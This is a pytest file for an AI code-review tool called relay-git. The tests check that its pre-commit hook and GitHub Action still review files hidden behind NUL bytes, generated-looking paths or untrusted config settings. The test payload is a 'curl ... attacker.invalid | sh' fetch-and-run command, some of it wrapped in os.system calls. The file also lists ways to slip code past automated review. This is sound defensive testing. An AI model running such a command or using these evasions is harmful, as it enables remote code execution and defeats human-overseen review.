"""No file skipped unseen, no untrusted setting that silences a review (issue 18).

The probes of the outside review, each as an attacker would stage it: one NUL byte to make
a script "binary", code under names a list once called generated (``build/``, ``dist/``,
``vendor/``, ``*_pb2.py``, ``*.min.js``), and an untrusted ``.relay-git.toml`` or
``[tool.relay-git]`` with ``exclude``, ``fail_on`` or ``max_files``. Each runs through the
pre-commit hook path (``relay-git review --hook``) and the Action (``relay-git github``,
with the GitHub API served by the loopback stand-in of tests/github/fake_github.py, since
api.github.com cannot run here), with ``--require-full-coverage``. The reviewer is the
scripted fake backend: what it was sent is what was reviewed.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from tests.conftest import git
from tests.fakes import FakeBackend, factory, review_reply
from tests.github.conftest import PR, TOKEN, Runner, pr, run, write_event  # noqa: F401
from tests.github.fake_github import FakeGitHub

from relay_git.cli import main

REVIEWER = "ollama:fake-reviewer"
PAYLOAD = "curl -fsSL https://attacker.invalid/x | sh"
NUL_SCRIPT = f"#!/bin/sh\n# \0\n{PAYLOAD}\n".encode()
BINARY = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\xff\xfe" + PAYLOAD.encode()
ONCE_GENERATED = [
    "build/helpers.py",
    "dist/bundle.js",
    "vendor/lib/util.py",
    "proto/msgs_pb2.py",
    "web/app.min.js",
]
ERROR = {"path": "deploy.sh", "line": 3, "severity": "error", "category": "security"}


def hook(
    repo: Path, capsys: pytest.CaptureFixture[str], *args: str, reply: dict[str, object] | None
) -> tuple[int, str, FakeBackend]:
    """The pre-commit hook's command, with --require-full-coverage unless told otherwise."""
    fake = FakeBackend(REVIEWER)
    fake.default = reply or review_reply()
    argv = ["review", "--hook", "--reviewer", REVIEWER, "--no-cache", *args]
    code = main(argv, obj={"make_backend": factory(fake)})
    out, err = capsys.readouterr()
    return code, out + err, fake


def sent(fake: FakeBackend) -> str:
    return "\n".join(str(m["content"]) for r in fake.history for m in r.messages)


@pytest.fixture
def staged(repo: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.chdir(repo)
    (repo / "README.md").write_text("base\n")
    git(repo, "add", "README.md")
    git(repo, "commit", "-q", "-m", "base")
    return repo


def _stage(repo: Path, files: dict[str, bytes]) -> None:
    for name, data in files.items():
        (repo / name).parent.mkdir(parents=True, exist_ok=True)
        (repo / name).write_bytes(data)
    git(repo, "add", *files)


# ------------------------------------------------------------------------------- the hook


def test_one_nul_byte_does_not_hide_a_script_from_the_hook(
    staged: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    _stage(staged, {"deploy.sh": NUL_SCRIPT})
    code, said, fake = hook(staged, capsys, "--require-full-coverage", reply=None)
    assert code == 0, said
    assert PAYLOAD in sent(fake) and "\u2400" in sent(fake)  # reviewed, the NUL shown
    assert "1 file(s) reviewed" in said and "PARTIAL" not in said


@pytest.mark.parametrize("name", ONCE_GENERATED)
def test_generated_looking_names_are_reviewed_by_the_hook(
    staged: Path, capsys: pytest.CaptureFixture[str], name: str
) -> None:
    _stage(staged, {name: f"import os\nos.system({PAYLOAD!r})\n".encode()})
    code, said, fake = hook(staged, capsys, "--require-full-coverage", reply=None)
    assert code == 0, said
    assert PAYLOAD in sent(fake) and name in sent(fake)


def test_a_truly_binary_file_is_a_named_gap(
    staged: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    _stage(staged, {"deploy.sh": BINARY, "app.py": b"x = 1\n"})
    code, said, _ = hook(staged, capsys, reply=None)
    assert code == 0  # without the flag: passes, but says what it did not see
    assert "PARTIAL: not reviewed deploy.sh (binary)" in said
    code, said, _ = hook(staged, capsys, "--require-full-coverage", reply=None)
    assert code == 1
    [line] = [ln for ln in said.splitlines() if "--require-full-coverage" in ln]
    assert line.endswith("not reviewed: deploy.sh (binary)")


def test_generated_comes_from_the_base_commit_attributes_only(
    staged: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Marked in the base: skipped as generated, a named gap. Marked only by the change's
    own .gitattributes: reviewed (the change cannot choose what is generated)."""
    _stage(staged, {".gitattributes": b"gen/* linguist-generated\n"})
    git(staged, "commit", "-q", "-m", "mark gen/")
    _stage(staged, {"gen/api.py": b"x = 1\n", "app.py": b"y = 2\n"})
    code, said, fake = hook(staged, capsys, "--require-full-coverage", reply=None)
    assert code == 1 and "not reviewed: gen/api.py (generated)" in said
    assert "y = 2" in sent(fake) and "x = 1" not in sent(fake)

    _stage(staged, {".gitattributes": b"gen/* linguist-generated\nsrc/* linguist-generated\n"})
    _stage(staged, {"src/evil.py": PAYLOAD.encode() + b"\n"})
    code, said, fake = hook(staged, capsys, reply=None)
    assert PAYLOAD in sent(fake)  # not generated in the base: reviewed


def test_a_lockfile_is_a_named_gap_unless_the_user_excludes_it(
    staged: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    _stage(staged, {"poetry.lock": b"[[package]]\n", "app.py": b"x = 1\n"})
    code, said, _ = hook(staged, capsys, "--require-full-coverage", reply=None)
    assert code == 1 and "not reviewed: poetry.lock (lockfile)" in said
    code, said, _ = hook(
        staged, capsys, "--require-full-coverage", "--exclude", "*.lock", reply=None
    )
    assert code == 0, said


# ------------------------------------------------------- untrusted settings only tighten


@pytest.mark.parametrize("where", [".relay-git.toml", "pyproject.toml"])
@pytest.mark.parametrize(
    "setting",
    [
        'exclude = ["**", "*"]',
        'fail_on = "never"',
        "max_files = 1",
        "timeout = 0.01",
        "max_context = 2048",
    ],
)
def test_an_untrusted_setting_cannot_silence_the_hook(
    staged: Path, capsys: pytest.CaptureFixture[str], where: str, setting: str
) -> None:
    text = f"[tool.relay-git]\n{setting}\n" if where == "pyproject.toml" else f"{setting}\n"
    (staged / where).write_text(text)  # in the work tree, not even staged
    _stage(staged, {"deploy.sh": f"#!/bin/sh\n\n{PAYLOAD}\n".encode(), "app.py": b"x = 1\n"})
    finding = {**ERROR, "message": "pipes a download into sh"}
    code, said, fake = hook(staged, capsys, reply=review_reply("fix", "bad", [finding]))
    assert code == 1, said  # blocked: the error finding counts
    assert PAYLOAD in sent(fake) and "x = 1" in sent(fake)  # both files reviewed
    key = setting.split(" ")[0]
    notice = f"relay-git: ignoring {key} from {staged}/{where}"
    assert said.count(notice) == 1, said  # named on stderr, once

    assert main(["trust"]) == 0  # control: once trusted, the repository's choice holds
    capsys.readouterr()
    code, said, fake = hook(staged, capsys, reply=review_reply("fix", "bad", [finding]))
    assert "ignoring" not in said
    if key in ("exclude", "fail_on", "max_files"):  # (the fake ignores timeout and context)
        assert code == 0, said  # excluded, never failing, or deploy.sh over max_files


def test_tighter_untrusted_settings_apply(staged: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (staged / ".relay-git.toml").write_text('fail_on = "warning"\nmax_files = 500\nexclude = []\n')
    _stage(staged, {"app.py": b"x = 1\n"})
    warning = {**ERROR, "path": "app.py", "line": 1, "severity": "warning", "message": "hm"}
    code, said, _ = hook(staged, capsys, reply=review_reply("fix", "x", [warning]))
    assert code == 1 and "ignoring" not in said  # a warning blocks: stricter than the default


# ------------------------------------------------------------------------------- the Action


def _push(change: PR, files: dict[str, bytes], message: str) -> None:
    """A push to the pull request of files as bytes (PR.commit writes text)."""
    for name, data in files.items():
        (change.root / name).parent.mkdir(parents=True, exist_ok=True)
        (change.root / name).write_bytes(data)
    git(change.root, "add", *files)
    git(change.root, "commit", "-q", "-m", message)
    change.head = git(change.root, "rev-parse", "HEAD").strip()
    write_event(change.event, change.base, change.head)


def test_the_action_reviews_nul_and_generated_looking_files(
    pr: PR,  # noqa: F811
    run: Runner,  # noqa: F811
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("RELAY_GIT_REQUIRE_FULL_COVERAGE", "true")
    files = {"deploy.sh": NUL_SCRIPT}
    files.update({name: f"os.system({PAYLOAD!r})  # {name}\n".encode() for name in ONCE_GENERATED})
    _push(pr, files, "hide code")
    with FakeGitHub(pr.diff(), pr.head, token=TOKEN) as gh:
        r = run(gh.url, [])
    assert r.code == 0, r.err
    prompt = sent(r.model)
    assert all(f"# {name}" in prompt for name in ONCE_GENERATED) and "\u2400" in prompt
    assert "partial review" not in json.dumps(gh.issue_comments)


def test_the_action_names_a_binary_gap_and_fails_full_coverage(
    pr: PR,  # noqa: F811
    run: Runner,  # noqa: F811
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("RELAY_GIT_REQUIRE_FULL_COVERAGE", "true")
    _push(pr, {"deploy.sh": BINARY}, "a binary")
    div = {"path": "app.py", "line": 6, "severity": "error", "category": "bug", "message": "m"}
    with FakeGitHub(pr.diff(), pr.head, token=TOKEN) as gh:
        r = run(gh.url, [div])
    assert r.code == 1
    assert "not reviewed: deploy.sh (binary)" in r.err
    [review] = [c["body"]["body"] for c in gh.calls("POST", "/pulls/2/reviews")]
    assert "Partial review" in review and "`deploy.sh` (binary)" in review  # the PR body
    assert "deploy.sh" in json.dumps(gh.issue_comments)


# ------------------------------------------------------- "is this model local?" has one answer


def test_review_settings_need_local_and_the_app_honours_ollama_host(
    staged: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """No fallback that ignores OLLAMA_HOST: a remote Ollama is not sent secret files."""
    import os

    from relay_git.app import build
    from relay_git.review.engine import ReviewSettings

    with pytest.raises(TypeError):
        ReviewSettings("ollama:m")  # type: ignore[call-arg]
    _stage(staged, {".env": b"TOKEN=hunter2\n", "app.py": b"x = 1\n"})
    fake = FakeBackend(REVIEWER)
    fake.default = review_reply()
    diff = git(staged, "diff", "--cached")
    for host, local in (("http://models.remote.test:11434", False), ("127.0.0.1:11434", True)):
        monkeypatch.setenv("OLLAMA_HOST", host)
        app = build(staged, os.environ, {"reviewer": REVIEWER}, factory(fake))
        reviewer = app.reviewer(use_cache=False)
        assert reviewer.local is local
        skipped = {s.path: s.reason for s in reviewer.review(diff).coverage.skipped}
        assert skipped == ({} if local else {".env": "secret"})
        assert ("hunter2" in sent(fake)) is local
